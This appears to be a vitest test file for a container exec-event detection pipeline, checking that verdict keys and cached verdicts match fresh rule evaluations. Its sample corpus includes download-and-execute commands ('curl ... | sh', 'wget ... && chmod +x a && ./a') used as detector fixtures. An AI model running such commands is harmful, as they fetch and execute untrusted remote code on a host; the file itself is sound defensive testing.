import { describe, expect, it } from "vitest";
import { EMPTY_ALLOWLIST, parseAllowlist } from "../src/detection/allowlist.js";
import { evaluate } from "../src/detection/rule.js";
import type { ExecEvent, Verdict } from "../src/model.js";
import { batchJudge, verdictKey } from "../src/pipeline.js";
import { parseMessage } from "../src/sources/index.js";
import { session, withAncestors } from "./detection/factory.js";
import { fieldFixtureNames, loadFieldFixture } from "./sources/field-fixtures.js";
import { context, fixtureNames, loadMessage } from "./sources/fixtures.js";

/** Every exec event the message and field fixtures parse into, plus sessions and ancestries of our own. */
function corpus(): [string, ExecEvent][] {
  const out: [string, ExecEvent][] = [];
  const messages: [string, string][] = [
    ...fixtureNames().map((name) => [name, loadMessage(name)] as [string, string]),
    ...fieldFixtureNames().flatMap((name) =>
      loadFieldFixture(name).lines.map((line, i) => [`${name}:${i + 1}`, line] as [string, string]),
    ),
  ];
  for (const [name, message] of messages) {
    const outcome = parseMessage(message, context());
    if (outcome.kind !== "events") continue;
    outcome.events.forEach((event, i) => {
      out.push([`${name}#${i}`, event]);
    });
  }
  out.push(["session sh -c curl|sh", session("sh", "-c", "curl -s http://203.0.113.5/x | sh")]);
  const nested = session("bash", "-c", "cd /tmp && wget http://198.51.100.4/a -O a && chmod +x a && ./a");
  out.push(["session cd /tmp && wget", nested]);
  out.push([
    "curl under /tmp/.x/loader",
    withAncestors(out[0]?.[1] ?? nested, [{ name: "loader", path: "/tmp/.x/loader", args: [] }]),
  ]);
  return out;
}

/**
 * The same execution seen again: every field the verdict key leaves out is different (times, ids,
 * pid, exec ids, the container id, pod, task, node, owner, labels, platform, actor, notes).
 */
function anotherRun(event: ExecEvent): ExecEvent {
  const other = structuredClone(event);
  other.time = "2031-01-02T03:04:05.000Z";
  other.source = {
    ...other.source,
    eventId: "99999999999999999999",
    logGroup: "/another/group",
    logStream: "another-stream",
    owner: "210987654321",
    vouchedBy: "tetragon=*:*",
  };
  other.process.pid = (other.process.pid ?? 0) + 7777;
  other.lineage = { execId: "b3RoZXI=", parentExecId: "cGFyZW50", grandparentExecId: "Z3JhbmQ=" };
  other.container = { ...other.container, id: "f".repeat(64) };
  other.workload = {
    ...other.workload,
    platform: other.workload.platform === "ecs" ? "eks" : "ecs",
    pod: "another-pod-7d9f6c5b8-zzzzz",
    task: "arn:aws:ecs:us-east-1:210987654321:task/another/0abc",
    node: "ip-10-9-9-9.ec2.internal",
    owner: { kind: "StatefulSet", name: "another" },
    labels: { app: "another" },
    service: "another-service",
    family: "another-family",
  };
  other.sessionKey = "another-session";
  other.actor = { user: "another", sourceIPs: ["192.0.2.9"], userAgent: "another-agent" };
  other.notes = ["another note"];
  return other;
}

/** A verdict without what belongs to the event it was judged for (the event itself and its pid). */
function judged(verdict: Verdict): unknown {
  if (verdict.kind !== "finding") return verdict;
  const { event: _event, process, ...rest } = verdict.finding;
  const { pid: _pid, ...processWithoutPid } = process;
  return { ...rest, process: processWithoutPid };
}

const allowlist = parseAllowlist(
  JSON.stringify([
    { utility: "nmap", namespace: "payments", comment: "scanner job" },
    { image: "*/netshoot*", maxSeverity: "critical", comment: "debug image" },
  ]),
  "test allowlist",
);

describe("verdict key: events with the same key get the same verdict", () => {
  const events = corpus();

  it("covers findings, benign and other verdicts", () => {
    const kinds = new Set(events.map(([, event]) => evaluate(event).kind));
    expect(events.length).toBeGreaterThan(40);
    expect([...kinds].sort()).toEqual(["benign", "finding", "none"]);
  });

  it.each(events)("%s", (_name, event) => {
    // Prepare
    const other = anotherRun(event);
    const options = { isAllowed: (f: Parameters<typeof allowlist.match>[0]) => allowlist.match(f) !== null };

    // Act
    const judge = batchJudge({ allowlist });
    judge(event);
    const remembered = judge(other);

    // Assess: the key ignores what anotherRun changed, and the rule does not read it either.
    expect(verdictKey(other)).toBe(verdictKey(event));
    expect(judged(evaluate(other, options))).toEqual(judged(evaluate(event, options)));
    expect(remembered).toEqual(evaluate(other, options));
    if (remembered.kind === "finding") expect(remembered.finding.event).toBe(other);
  });

  it("tells apart events that differ in what the rule reads", () => {
    const [, event] = events.find(([, e]) => evaluate(e).kind === "finding") ?? [];
    if (event === undefined) throw new Error("no finding in the corpus");
    const changes: ((e: ExecEvent) => void)[] = [
      (e) => {
        e.process.args = [...(e.process.args ?? []), "-o", "/tmp/x"];
      },
      (e) => {
        e.process.cwd = "/tmp";
      },
      (e) => {
        e.ancestors = [{ name: "sh", path: "/tmp/sh" }, ...e.ancestors];
      },
      (e) => {
        e.container.image = "nicolaka/netshoot:latest";
      },
      (e) => {
        e.workload.namespace = "elsewhere";
      },
      (e) => {
        e.viaExecSession = !e.viaExecSession;
      },
    ];
    for (const change of changes) {
      const other = structuredClone(event);
      change(other);
      expect(verdictKey(other)).not.toBe(verdictKey(event));
    }
  });

  it("reuses a remembered verdict only for an event with the same key", () => {
    // Prepare: a remembered verdict shares its reasons with what it is rebound to; a fresh one does not.
    const [, found] = events.find(([, e]) => evaluate(e).kind === "finding") ?? [];
    if (found === undefined) throw new Error("no finding in the corpus");
    const event = withAncestors(found, [{ name: "node", path: "/usr/local/bin/node", args: ["app.js"] }]);
    const options = { isAllowed: (f: Parameters<typeof allowlist.match>[0]) => allowlist.match(f) !== null };
    const reasonsOf = (verdict: Verdict) =>
      verdict.kind === "finding" ? verdict.finding.reasons : undefined;
    const changes: ((e: ExecEvent) => void)[] = [
      (e) => {
        e.process.args = [...(e.process.args ?? []).slice(0, -1), "http://198.51.100.9/other"];
      },
      (e) => {
        e.process.user = "another-user";
      },
      (e) => {
        e.process.comm = "another-comm";
      },
      (e) => {
        e.ancestors = e.ancestors.map((a) => ({ args: a.args, path: a.path, name: a.name }));
      },
      (e) => {
        e.container.name = "another-container";
      },
      (e) => {
        e.workload.cluster = "another-cluster";
      },
      (e) => {
        e.inContainer = "unknown";
      },
    ];

    for (const change of changes) {
      // Act
      const judge = batchJudge({ allowlist });
      const first = judge(event);
      const other = structuredClone(event);
      change(other);
      const judged = judge(other);

      // Assess
      expect(verdictKey(other)).not.toBe(verdictKey(event));
      expect(judged).toEqual(evaluate(other, options));
      expect(reasonsOf(judged)).not.toBe(reasonsOf(first));
    }
    const judge = batchJudge({ allowlist });
    const first = judge(event);
    expect(reasonsOf(judge(anotherRun(event)))).toBe(reasonsOf(first));
  });

  it("judges each of many distinct executions of one command as the rule does", () => {
    const [, event] = events.find(([, e]) => evaluate(e).kind === "finding") ?? [];
    if (event === undefined) throw new Error("no finding in the corpus");
    const judge = batchJudge({ allowlist });
    const runs = Array.from({ length: 60 }, (_, i) => {
      const other = structuredClone(event);
      other.process.cwd = `/srv/${i % 40}`;
      return other;
    });
    for (const run of runs)
      expect(judge(run)).toEqual(evaluate(run, { isAllowed: (f) => allowlist.match(f) !== null }));
  });

  describe("without an allowlist, where an event ran is outside the key", () => {
    /** anotherRun, and also another image, container name, namespace and cluster. */
    function elsewhere(event: ExecEvent): ExecEvent {
      const other = anotherRun(event);
      other.container = { ...other.container, image: "registry.example/another:9.9", name: "another-name" };
      other.workload = { ...other.workload, namespace: "another-namespace", cluster: "another-cluster" };
      return other;
    }

    it.each(events)("%s", (_name, event) => {
      // Prepare
      const other = elsewhere(event);

      // Act
      const judge = batchJudge({ allowlist: EMPTY_ALLOWLIST });
      judge(event);
      const remembered = judge(other);

      // Assess: the rule alone does not read the place, so the remembered verdict is the rule's.
      expect(verdictKey(other, false)).toBe(verdictKey(event, false));
      expect(judged(evaluate(other))).toEqual(judged(evaluate(event)));
      expect(remembered).toEqual(evaluate(other));
      if (remembered.kind === "finding") expect(remembered.finding.event).toBe(other);
    });

    it("reuses a verdict across places only when no allowlist entry could read them", () => {
      // Prepare
      const [, found] = events.find(([, e]) => evaluate(e).kind === "finding") ?? [];
      if (found === undefined) throw new Error("no finding in the corpus");
      const event = withAncestors(found, [{ name: "node", path: "/usr/local/bin/node", args: ["app.js"] }]);
      const reasonsOf = (verdict: Verdict) =>
        verdict.kind === "finding" ? verdict.finding.reasons : undefined;

      // Act
      const bare = batchJudge({ allowlist: EMPTY_ALLOWLIST });
      const listed = batchJudge({ allowlist });
      const [bareFirst, listedFirst] = [bare(event), listed(event)];

      // Assess: reused (the same reasons array) without entries, judged afresh with them.
      expect(reasonsOf(bare(elsewhere(event)))).toBe(reasonsOf(bareFirst));
      expect(reasonsOf(listed(elsewhere(event)))).not.toBe(reasonsOf(listedFirst));
      expect(verdictKey(elsewhere(event))).not.toBe(verdictKey(event));
    });

    it("still lets an entry that reads the place suppress a repeat elsewhere", () => {
      // Prepare: the netshoot entry allows a finding only in that image.
      const [, found] = events.find(([, e]) => evaluate(e).kind === "finding") ?? [];
      if (found === undefined) throw new Error("no finding in the corpus");
      const debug = structuredClone(found);
      debug.container = { ...debug.container, image: "nicolaka/netshoot:latest" };
      const options = {
        isAllowed: (f: Parameters<typeof allowlist.match>[0]) => allowlist.match(f) !== null,
      };

      // Act
      const judge = batchJudge({ allowlist });
      const first = judge(found);
      const second = judge(debug);

      // Assess
      expect(first).toEqual(evaluate(found, options));
      expect(second).toEqual(evaluate(debug, options));
    });
  });
});
